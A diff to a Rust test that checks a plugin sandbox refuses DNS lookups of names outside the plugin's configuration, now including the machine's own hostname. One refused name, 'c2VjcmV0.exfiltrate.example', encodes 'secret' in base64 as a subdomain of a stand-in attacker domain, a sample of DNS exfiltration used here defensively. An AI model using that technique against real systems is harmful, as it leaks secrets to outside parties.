@@ -25,7 +25,10 @@ async fn a_plugin_looks_up_only_the_names_of_its_configuration() {
     let granted = command(&mut obs, &instance, "mine", json!({"lookup": "localhost"})).await;
     assert_eq!(granted["status"], "success", "{granted}");
     assert!(granted["result"]["addresses"].as_array().is_some_and(|a| !a.is_empty()), "{granted}");
-    for (i, name) in ["c2VjcmV0.exfiltrate.example", "example.com", "other.local"].into_iter().enumerate() {
+    // A name this machine resolves (its own), so a refusal cannot be a failed lookup.
+    let own = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap().trim().to_string();
+    assert!(std::net::ToSocketAddrs::to_socket_addrs(&(own.as_str(), 9)).is_ok(), "{own} resolves here");
+    for (i, name) in [own.as_str(), "c2VjcmV0.exfiltrate.example"].into_iter().enumerate() {
         let refused = command(&mut obs, &instance, &format!("exfil-{i}"), json!({"lookup": name})).await;
         assert_eq!(refused["error"]["code"], "COMMAND_FAILED", "{name}: {refused}");
         assert!(refused["error"]["message"].as_str().unwrap().contains(name), "{refused}");
